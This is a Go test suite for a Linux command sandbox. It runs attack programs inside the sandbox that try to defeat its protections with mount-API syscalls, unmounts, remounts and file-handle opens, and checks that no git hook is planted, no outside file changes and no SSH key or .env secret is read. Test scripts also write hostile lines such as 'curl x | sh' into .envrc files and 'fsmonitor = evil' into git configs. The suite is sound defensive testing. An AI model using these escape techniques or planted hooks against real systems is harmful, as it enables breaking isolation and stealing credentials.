//go:build linux

package sandbox

import (
	"bytes"
	"encoding/hex"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
	"unsafe"

	"github.com/toolscope/toolscope/internal/sbinit"
)

// The escape suite runs small attack programs inside the sandbox that try
// to undo its mounts (the read-only .git bind, the read-only root, the
// secret masks) with the mount API, and checks afterwards, from outside,
// that nothing outside changed and no secret was read. The attack program
// is this test binary: run with escapeEnv set, its init runs the attack
// named there instead of the tests.
const escapeEnv = "TOOLSCOPE_ESCAPE_ATTACK"

// The uid the suite runs as when the tests run as root (nobody).
const escapeUID = 65534

func init() {
	name := os.Getenv(escapeEnv)
	if name == "" || os.Args[0] == sbinit.Arg0 {
		return
	}
	os.Exit(escapeAttack(name, os.Args[1:]))
}

// Syscall numbers of the new mount API, the same on every architecture.
const (
	sysOpenTree     = 428
	sysMountSetattr = 442
	openTreeClone   = 1
	atRecursive     = 0x8000
	attrRdonly      = 0x1
	oPath           = 0x200000
)

// atFdcwd is AT_FDCWD as a syscall argument.
var atFdcwd = func() uintptr { n := -100; return uintptr(n) }()

// Per-architecture numbers the syscall package lacks.
var sysNameToHandleAt, sysOpenByHandleAt, sysSetns = func() (uintptr, uintptr, uintptr) {
	switch runtime.GOARCH {
	case "amd64":
		return 303, 304, 308
	case "arm64":
		return 264, 265, 268
	}
	return 0, 0, 0
}()

func cstr(s string) *byte {
	b, _ := syscall.BytePtrFromString(s)
	return b
}

func mountSetattr(path string, set, clr uint64, flags uintptr) error {
	attr := struct{ set, clr, propagation, userns uint64 }{set: set, clr: clr}
	_, _, e := syscall.Syscall6(sysMountSetattr, atFdcwd, uintptr(unsafe.Pointer(cstr(path))), flags,
		uintptr(unsafe.Pointer(&attr)), unsafe.Sizeof(attr), 0)
	if e != 0 {
		return e
	}
	return nil
}

func openTree(path string, flags uintptr) (int, error) {
	fd, _, e := syscall.Syscall(sysOpenTree, atFdcwd, uintptr(unsafe.Pointer(cstr(path))), flags|syscall.O_CLOEXEC)
	if e != 0 {
		return -1, e
	}
	return int(fd), nil
}

// escapeAttack runs one attack and prints what each step returned and any
// content it read; the test judges by the state outside and the output.
func escapeAttack(name string, a []string) int {
	say := func(what string, err error) { fmt.Printf("%s: %v\n", what, err) }
	readAt := func(what string, dirfd int, rel string) {
		fd, err := syscall.Openat(dirfd, rel, syscall.O_RDONLY|syscall.O_CLOEXEC, 0)
		if err != nil {
			say(what, err)
			return
		}
		defer syscall.Close(fd)
		b, err := io.ReadAll(os.NewFile(uintptr(fd), rel))
		fmt.Printf("%s: %v %q\n", what, err, b)
	}
	const hook = "#!/bin/sh\necho planted\n"
	switch name {
	case "setattr-rw": // clear RDONLY on a1's mount (a protected bind), then write a2
		say("mount_setattr", mountSetattr(a[0], 0, attrRdonly, 0))
		say("mount_setattr recursive", mountSetattr(a[0], 0, attrRdonly, atRecursive))
		say("write", os.WriteFile(a[1], []byte(hook), 0o755))
	case "root-rw": // clear RDONLY everywhere, then change a1's mode and times
		say("mount_setattr /", mountSetattr("/", 0, attrRdonly, atRecursive))
		// Some mount may be locked read-only: try the mount holding a1
		// (the closest ancestor that is a mount point).
		for d := filepath.Dir(a[0]); ; d = filepath.Dir(d) {
			if err := mountSetattr(d, 0, attrRdonly, 0); err != syscall.EINVAL {
				say("mount_setattr "+d, err)
				break
			}
			if d == "/" {
				break
			}
		}
		say("chmod", os.Chmod(a[0], 0o777))
		say("chtimes", os.Chtimes(a[0], time.Unix(1e9, 0), time.Unix(1e9, 0)))
	case "open-tree": // a detached copy of a0's mount without its children, then read a1 through it
		fd, err := openTree(a[0], openTreeClone)
		say("open_tree", err)
		if err == nil {
			readAt("read", fd, a[1])
		}
	case "umount": // detach the mount at a0, then read a1
		say("umount2", syscall.Unmount(a[0], syscall.MNT_DETACH))
		say("umount2 again", syscall.Unmount(a[0], 0))
		readAt("read", int(int32(atFdcwd)), a[1])
	case "umount-write": // detach the mount at a0, then write a1
		say("umount2", syscall.Unmount(a[0], syscall.MNT_DETACH))
		say("write", os.WriteFile(a[1], []byte(hook), 0o755))
	case "remount": // make the bind at a0 writable with mount(2), then write a1
		say("remount", syscall.Mount("", a[0], "", syscall.MS_REMOUNT|syscall.MS_BIND, ""))
		say("write", os.WriteFile(a[1], []byte(hook), 0o755))
	case "handle": // open a file by its handle (a1 type, a2 hex) on a0's mount
		h, _ := hex.DecodeString(a[2])
		typ, _ := strconv.Atoi(a[1])
		buf := make([]byte, 8+len(h))
		*(*uint32)(unsafe.Pointer(&buf[0])) = uint32(len(h))
		*(*int32)(unsafe.Pointer(&buf[4])) = int32(typ)
		copy(buf[8:], h)
		mfd, err := syscall.Open(a[0], syscall.O_RDONLY|syscall.O_DIRECTORY|syscall.O_CLOEXEC, 0)
		if err != nil {
			say("open", err)
			break
		}
		fd, _, e := syscall.Syscall(sysOpenByHandleAt, uintptr(mfd), uintptr(unsafe.Pointer(&buf[0])), syscall.O_RDONLY)
		if e != 0 {
			say("open_by_handle_at", e)
			break
		}
		readAt("read", int(fd), "")
	case "denied": // calls that must fail whatever the uid
		_, _, e := syscall.Syscall(syscall.SYS_KEYCTL, 0 /* KEYCTL_GET_KEYRING_ID */, ^uintptr(3) /* KEY_SPEC_USER_KEYRING */, 0)
		say("keyctl", errOf(e))
		say("pivot_root", syscall.PivotRoot(a[0], a[0]))
		say("mknod", syscall.Mknod(filepath.Join(a[0], "disk"), syscall.S_IFBLK|0o600, 8<<8))
		if fd, err := syscall.Open("/proc/self/ns/mnt", syscall.O_RDONLY|syscall.O_CLOEXEC, 0); err == nil {
			_, _, e := syscall.Syscall(sysSetns, uintptr(fd), syscall.CLONE_NEWNS, 0)
			say("setns", errOf(e))
		}
		fd, err := syscall.Open(a[1], oPath|syscall.O_CLOEXEC, 0)
		if err == nil {
			buf := make([]byte, 8+128)
			*(*uint32)(unsafe.Pointer(&buf[0])) = 128
			var mnt int32
			_, _, e := syscall.Syscall6(sysNameToHandleAt, uintptr(fd), uintptr(unsafe.Pointer(cstr(""))),
				uintptr(unsafe.Pointer(&buf[0])), uintptr(unsafe.Pointer(&mnt)), 0x1000 /* AT_EMPTY_PATH */, 0)
			say("name_to_handle_at", errOf(e))
		}
		say("chroot", syscall.Chroot(a[0])) // last: the paths above are gone after it
	default:
		fmt.Println("unknown attack", name)
		return 2
	}
	return 0
}

func errOf(e syscall.Errno) error {
	if e == 0 {
		return nil
	}
	return e
}

// fileHandle returns the handle type and bytes of path (outside the
// sandbox): what an attacker could guess, an inode number and generation.
func fileHandle(t *testing.T, path string) (int, string, bool) {
	buf := make([]byte, 8+128)
	*(*uint32)(unsafe.Pointer(&buf[0])) = 128
	var mnt int32
	_, _, e := syscall.Syscall6(sysNameToHandleAt, atFdcwd, uintptr(unsafe.Pointer(cstr(path))),
		uintptr(unsafe.Pointer(&buf[0])), uintptr(unsafe.Pointer(&mnt)), 0, 0)
	if e != 0 {
		t.Logf("name_to_handle_at %s: %v (the handle attack is left out)", path, e)
		return 0, "", false
	}
	n := *(*uint32)(unsafe.Pointer(&buf[0]))
	typ := *(*int32)(unsafe.Pointer(&buf[4]))
	return int(typ), hex.EncodeToString(buf[8 : 8+n]), true
}

// TestEscape runs the escape suite as the user running the tests; as
// root, it runs it again as nobody (uid 65534) in a copy of this test
// binary, on files nobody owns.
func TestEscape(t *testing.T) {
	t.Run("as-"+strconv.Itoa(os.Getuid()), escapeSuite)
	if os.Getuid() != 0 || os.Getenv(escapeEnv+"_CHILD") != "" {
		return
	}
	t.Run("as-nobody", func(t *testing.T) {
		self, err := os.Executable()
		if err != nil {
			t.Fatal(err)
		}
		// Directories nobody can reach (t.TempDir's parent is private).
		bin, err := os.MkdirTemp("", "toolscope-escape-")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.RemoveAll(bin) })
		home := filepath.Join(bin, "home")
		if err := os.Mkdir(home, 0o755); err != nil {
			t.Fatal(err)
		}
		for _, d := range []string{bin, home} {
			if err := os.Chmod(d, 0o755); err != nil {
				t.Fatal(err)
			}
		}
		if err := os.Chown(home, escapeUID, escapeUID); err != nil {
			t.Fatal(err)
		}
		b, err := os.ReadFile(self)
		if err != nil {
			t.Fatal(err)
		}
		copyPath := filepath.Join(bin, "sandbox.test")
		if err := os.WriteFile(copyPath, b, 0o755); err != nil {
			t.Fatal(err)
		}
		cmd := exec.Command(copyPath, "-test.run=^TestEscape$", "-test.v", "-test.count=1")
		cmd.Dir = bin
		cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + home, "CI=" + os.Getenv("CI"), escapeEnv + "_CHILD=1"}
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: escapeUID, Gid: escapeUID, Groups: []uint32{}}}
		out, err := cmd.CombinedOutput()
		t.Logf("as uid %d:\n%s", escapeUID, out)
		if err != nil {
			t.Fatalf("the suite as uid %d failed: %v", escapeUID, err)
		}
		if bytes.Contains(out, []byte("--- SKIP: TestEscape/as-")) && os.Getenv("CI") == "" {
			t.Skipf("the suite as uid %d was skipped", escapeUID)
		}
		if !bytes.Contains(out, []byte("--- PASS: TestEscape/as-")) {
			t.Fatalf("the suite as uid %d did not run", escapeUID)
		}
	})
}

func escapeSuite(t *testing.T) {
	home, dir, outside := t.TempDir(), t.TempDir(), t.TempDir()
	if sysSetns == 0 {
		t.Skip("no syscall numbers for " + runtime.GOARCH)
	}
	s, st := newSandbox(t, &Config{Home: home})
	need(t, st, FilesystemWrites, ProtectedPaths, ReadOnlyRoot, SecretReads)
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	// Honest status: the mounts are out of the command's reach.
	for _, name := range []string{MountLock, NoCapabilities} {
		if !st.Has(name) {
			t.Errorf("%s is not in force: %s", name, st)
		}
	}
	if !st.Confines() {
		t.Errorf("the status does not confine: %s", st)
	}

	// The files attacked, writable by this user outside the sandbox.
	hooks := filepath.Join(dir, ".git", "hooks")
	hook := filepath.Join(hooks, "pre-commit")
	if err := os.MkdirAll(hooks, 0o777); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, ".git", "config"), []byte("[core]\n"), 0o666); err != nil {
		t.Fatal(err)
	}
	sshKey := filepath.Join(home, ".ssh", "id_rsa")
	envFile := filepath.Join(dir, ".env")
	secrets := map[string]string{sshKey: "SSH-KEY-SECRET-7f3a", envFile: "DOTENV-SECRET-91c2"}
	if err := os.MkdirAll(filepath.Dir(sshKey), 0o700); err != nil {
		t.Fatal(err)
	}
	for p, v := range secrets {
		if err := os.WriteFile(p, []byte(v+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	victim := filepath.Join(outside, "victim")
	if err := os.WriteFile(victim, []byte("original\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	old := time.Unix(1.5e9, 0)
	if err := os.Chtimes(victim, old, old); err != nil {
		t.Fatal(err)
	}
	// The user could change all of them outside the sandbox.
	if err := os.Chmod(victim, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(hook+".probe", nil, 0o644); err != nil {
		t.Fatal(err)
	}
	os.Remove(hook + ".probe")

	check := func(t *testing.T, out string) {
		t.Helper()
		if _, err := os.Lstat(hook); err == nil {
			t.Errorf("a hook was planted in .git/hooks:\n%s", out)
			os.Remove(hook)
		}
		if b, _ := os.ReadFile(victim); string(b) != "original\n" {
			t.Errorf("the file outside changed to %q:\n%s", b, out)
		}
		if fi, err := os.Stat(victim); err != nil || fi.Mode() != 0o644 || !fi.ModTime().Equal(old) {
			t.Errorf("the file outside changed its mode or times: %v %v:\n%s", fi.Mode(), err, out)
			os.Chmod(victim, 0o644)
			os.Chtimes(victim, old, old)
		}
		for p, v := range secrets {
			if strings.Contains(out, v) {
				t.Errorf("the secret %s was read:\n%s", p, out)
			}
		}
	}
	attack := func(t *testing.T, name string, args ...string) string {
		t.Helper()
		r, err := s.NewRun([]string{dir})
		if err != nil {
			t.Fatal(err)
		}
		defer r.Close()
		cmd := exec.Command(self, args...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), escapeEnv+"="+name)
		var out bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &out
		if err := r.Wrap(cmd); err != nil {
			t.Fatal(err)
		}
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		rst, rerr := r.Report()
		werr := cmd.Wait()
		if rerr != nil || werr != nil {
			t.Fatalf("%v %v:\n%s", rerr, werr, out.String())
		}
		if !rst.Has(ProtectedPaths) {
			t.Fatalf("the run's status lacks %s: %s", ProtectedPaths, rst)
		}
		return out.String()
	}

	for _, c := range []struct {
		name string
		args []string
	}{
		{"setattr-rw", []string{filepath.Join(dir, ".git"), hook}},
		{"root-rw", []string{victim}},
		{"open-tree", []string{dir, ".env"}},
		{"open-tree", []string{home, ".ssh/id_rsa"}},
		{"open-tree", []string{filepath.Dir(home), filepath.Base(home) + "/.ssh/id_rsa"}},
		// A top-level directory has a Landlock read rule of its own, so
		// reads through a clone of it are not refused by Landlock.
		{"open-tree", []string{"/" + strings.Split(home, "/")[1], strings.Join(strings.Split(home, "/")[2:], "/") + "/.ssh/id_rsa"}},
		{"umount", []string{filepath.Dir(sshKey), sshKey}},
		{"umount", []string{envFile, envFile}},
		{"umount-write", []string{filepath.Join(dir, ".git"), hook}},
		{"remount", []string{filepath.Join(dir, ".git"), hook}},
	} {
		t.Run(c.name, func(t *testing.T) {
			out := attack(t, c.name, c.args...)
			t.Logf("%v:\n%s", c.args, out)
			check(t, out)
		})
	}
	t.Run("handle", func(t *testing.T) {
		for _, p := range []string{sshKey, envFile} {
			typ, h, ok := fileHandle(t, p)
			if !ok {
				continue
			}
			out := attack(t, "handle", filepath.Dir(p), strconv.Itoa(typ), h)
			t.Logf("%s:\n%s", p, out)
			check(t, out)
		}
	})
	t.Run("denied", func(t *testing.T) {
		out := attack(t, "denied", dir, victim)
		t.Logf("\n%s", out)
		check(t, out)
		if _, err := os.Lstat(filepath.Join(dir, "disk")); err == nil {
			t.Error("mknod made a block device")
		}
		for _, call := range []string{"keyctl", "chroot", "pivot_root", "mknod", "setns", "name_to_handle_at"} {
			if !strings.Contains(out, call+": operation not permitted") {
				t.Errorf("%s was not refused with EPERM", call)
			}
		}
	})

	// The same with the mount(8), umount(8) and unshare(1) programs, and
	// from a new mount namespace (with and without a new user namespace).
	t.Run("programs", func(t *testing.T) {
		for _, p := range []string{"mount", "umount", "unshare"} {
			if _, err := exec.LookPath(p); err != nil {
				if os.Getenv("CI") != "" {
					t.Fatalf("%s is not installed", p)
				}
				t.Skipf("%s is not installed", p)
			}
		}
		git := filepath.Join(dir, ".git")
		steps := `umount -l ` + filepath.Dir(sshKey) + `; cat ` + sshKey + `; umount -l ` + envFile + `; cat ` + envFile + `;
mount -o remount,bind,rw ` + git + `; umount -l ` + git + `; echo x > ` + hook + `;
mount -o remount,bind,rw /; umount -l /; chmod 777 ` + victim + `; touch ` + victim + `;
mount --bind ` + outside + ` ` + filepath.Join(dir, "x") + ` && chmod 777 ` + filepath.Join(dir, "x", "victim")
		for _, script := range []string{
			`mkdir -p x; ` + steps,
			`mkdir -p x; unshare -m sh -c '` + steps + `'`,
			`mkdir -p x; unshare -Urm sh -c '` + steps + `'`,
			`mkdir -p x; unshare -Um sh -c '` + steps + `'`,
			`mkdir -p x; unshare -U sh -c 'unshare -m sh -c "` + strings.ReplaceAll(steps, "\n", " ") + `"'`,
		} {
			out, err, _ := run(t, s, dir, script, nil)
			t.Logf("%s: %v\n%s", script, err, out)
			check(t, out)
		}
	})

	// A toolchain cache the user cannot reach (a ~/.cache made by root
	// with sudo) is no read to allow: the command runs.
	t.Run("unreachable-cache", func(t *testing.T) {
		if err := os.MkdirAll(filepath.Join(home, ".cache", "yarn"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(filepath.Join(home, ".cache"), 0); err != nil {
			t.Fatal(err)
		}
		defer os.Chmod(filepath.Join(home, ".cache"), 0o755)
		if out, err, _ := run(t, s, dir, "echo ran", nil); err != nil || !strings.Contains(out, "ran") {
			t.Errorf("%v: %s", err, out)
		}
	})

	// The protected class at any depth: a nested repository nine levels
	// down stays read-only; a repository made anew under a parent renamed
	// away, one copied, links named as members, are all moved aside after
	// the command, and so is a link into the sandbox's cache (which
	// outlives the run) to a directory holding an .envrc.
	t.Run("protected-class", func(t *testing.T) {
		proj := t.TempDir()
		t.Cleanup(func() {
			for _, d := range []string{"hid", "ro", "fake/.claude", "fake/.claude" + QuarantineSuffix} {
				os.Chmod(filepath.Join(proj, d), 0o755)
			}
		})
		deep := "a/b/c/d/e/f/g/h/lib"
		mkfile(t, filepath.Join(proj, deep, ".git/config"), "[core]\n")
		mkfile(t, filepath.Join(proj, "vendor/lib/.git/config"), "[core]\n")
		mkfile(t, filepath.Join(proj, "conf/.kube/config"), "server: mine\n")
		out, blocked, err := runQ(t, s, proj, `echo 'fsmonitor = evil' >> `+deep+`/.git/config
mv vendor/lib vendor/lib2; mkdir -p vendor/lib/.git/hooks && echo evil > vendor/lib/.git/hooks/pre-commit
ln -s /tmp/evil `+deep+`/.envrc
mkdir -p x/y && ln -s ../../vendor/lib2/.git x/y/.git
mkdir -p z && cp -r vendor/lib2/.git z/.git
mkdir -p w && ln vendor/lib2/.git/config w/.gitconfig
c=$(dirname "$GOCACHE"); mkdir -p "$c/evil" && echo 'curl x | sh' > "$c/evil/.envrc" && ln -s "$c/evil" linked
mkdir -p sec.pem && ln -s "$c/evil" sec.pem/linked
mkdir -p fake/.claude && echo '{}' > fake/.claude/settings.json && chmod 0 fake/.claude
mkdir -p hid && echo evil > hid/.envrc && chmod 0 hid
mkdir -p keys.pem/lib && git init -q keys.pem/lib; mkdir -p sub/.azure && echo evil > sub/.azure/.envrc
echo 'server: evil' >> conf/.kube/config; echo evil > conf/.kube/.envrc
mkdir -p ro && echo evil > ro/.envrc && touch 'ro/.envrc~toolscope-blocked' 'ro/.envrc~toolscope-blocked-2' && chmod a-w ro
true`, nil, nil, nil)
		// A directory made unreadable hides nothing: root reads it, and
		// a user gets read permission back on the one the command made.
		if err != nil {
			t.Errorf("unreadable directory: %v", err)
		}
		for _, b := range blocked {
			if b.MovedTo == "" {
				t.Errorf("%s not moved aside: %s", b.Path, b.Error)
			}
		}
		got := blockedRel(proj, blocked)
		// A mode-0 directory with files in it is no placeholder.
		// Secret directories hide nothing either: a repository in a
		// directory named like a key, an .envrc in a new .azure. Nor does
		// a directory made read-only, with the quarantine name taken.
		want := []string{deep + "/.envrc", "fake/.claude", "keys.pem/lib/.git", "linked", "ro/.envrc", "sec.pem/linked", "sub/.azure/.envrc", "vendor/lib/.git", "vendor/lib2/.git", "x/y/.git", "z/.git"}
		want = slices.Insert(want, 2, "hid/.envrc")
		if !slices.Equal(got, want) {
			t.Errorf("moved aside %v, want %v\n%s", got, want, out)
		}
		// The existing .kube, hidden during the command, was not written.
		if b, _ := os.ReadFile(filepath.Join(proj, "conf/.kube/config")); string(b) != "server: mine\n" {
			t.Errorf("conf/.kube/config written: %q", b)
		}
		if b, _ := os.ReadFile(filepath.Join(proj, deep, ".git/config")); string(b) != "[core]\n" {
			t.Errorf("%s/.git/config written: %q", deep, b)
		}
		if _, err := os.Lstat(filepath.Join(proj, "w/.gitconfig")); err == nil {
			t.Error("a hard link into a read-only repository was made")
		}
	})
}
